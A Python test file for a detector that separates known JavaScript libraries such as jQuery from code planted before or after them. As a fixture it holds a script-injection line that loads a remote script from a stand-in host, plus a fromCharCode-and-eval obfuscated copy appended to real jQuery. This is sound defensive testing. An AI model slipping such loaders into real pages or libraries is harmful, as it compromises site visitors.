"""Known libraries, and what was put before and behind them."""

from __future__ import annotations

from pathlib import Path

import pytest

from collector.decode.web.javascript.fold import fold
from collector.decode.web.javascript.library import split_library

JQUERY = Path("/usr/share/javascript/jquery/jquery.min.js")
BODY = "!function(w){'use strict';var h={version:1};" + "h.each=function(a,f){for(var i=0;i<a.length;i++)f(a[i],i);return a};" * 40 + "w.lib=h}(window);"
BANNERS = {
    "/*! jQuery v3.6.0 | (c) OpenJS Foundation and other contributors */\n": "jquery-3.6.0",
    "/*!\n * jQuery JavaScript Library v1.12.4\n */\n": "jquery-1.12.4",
    "/*!\n * Bootstrap v5.3.0 (https://getbootstrap.com/)\n */\n": "bootstrap-5.3.0",
    "/**\n * Swiper 8.4.7\n */\n": "swiper-8.4.7",
    "//     Underscore.js 1.13.4\n": "underscore-1.13.4",
    "/*! jQuery UI - v1.12.1 - 2016-09-14 */\n": "jquery-ui-1.12.1",
    "/*\nMooTools: the javascript framework\n*/\n": "mootools",
}
EVIL = "var s=document.createElement('script');s.src='//cdn.evil-target.test/j.js';document.head.appendChild(s);"


@pytest.mark.parametrize("banner", BANNERS, ids=BANNERS.values())
def test_a_library_by_itself_has_nothing_around_it(banner: str) -> None:
    found = split_library(banner + BODY)
    assert (found.name, found.before, found.after) == (BANNERS[banner], "", "")
    assert found.own == banner + BODY


@pytest.mark.parametrize("banner", BANNERS, ids=BANNERS.values())
def test_code_behind_a_library_is_told_apart(banner: str) -> None:
    found = split_library(banner + BODY + "\n;" + EVIL)
    assert found.name == BANNERS[banner]
    assert found.before == ""
    assert "evil-target" not in found.own
    assert [effect.value for effect in fold(found.after).effects] == ["//cdn.evil-target.test/j.js"]


@pytest.mark.parametrize("banner", BANNERS, ids=BANNERS.values())
def test_code_before_a_library_is_told_apart(banner: str) -> None:
    found = split_library(EVIL + "\n" + banner + BODY)
    assert found.name == BANNERS[banner]
    assert found.after == ""
    assert [effect.value for effect in fold(found.before).effects] == ["//cdn.evil-target.test/j.js"]


def test_code_between_banner_and_library_is_before_it() -> None:
    found = split_library("/*! jQuery v3.6.0 */\n" + EVIL + BODY)
    assert "evil-target" in found.before
    assert "evil-target" not in found.own


@pytest.mark.parametrize("end", ["jQuery.noConflict();", "//# sourceMappingURL=jquery.min.js.map", "define('lib', [], function () { return lib });", ";;\n"])
def test_what_libraries_end_with_is_their_own(end: str) -> None:
    found = split_library("/*! jQuery v3.6.0 */\n" + BODY + "\n" + end)
    assert (found.before, found.after) == ("", "")


def test_another_script_is_no_library() -> None:
    found = split_library("var a = 1;" + EVIL)
    assert found == ("", "var a = 1;" + EVIL, "", "")


def test_the_real_jquery_is_whole_and_its_poisoned_copy_is_not() -> None:
    source = JQUERY.read_text()
    assert split_library(source)[0].startswith("jquery-3.")
    assert split_library(source)[2:] == ("", "")
    hidden = "eval(String.fromCharCode(" + ",".join(str(ord(letter)) for letter in EVIL) + "))"
    for poisoned, part in ((source + ";" + hidden, 3), (hidden + ";" + source, 2)):
        assert [effect.value for effect in fold(split_library(poisoned)[part]).effects] == ["//cdn.evil-target.test/j.js"]
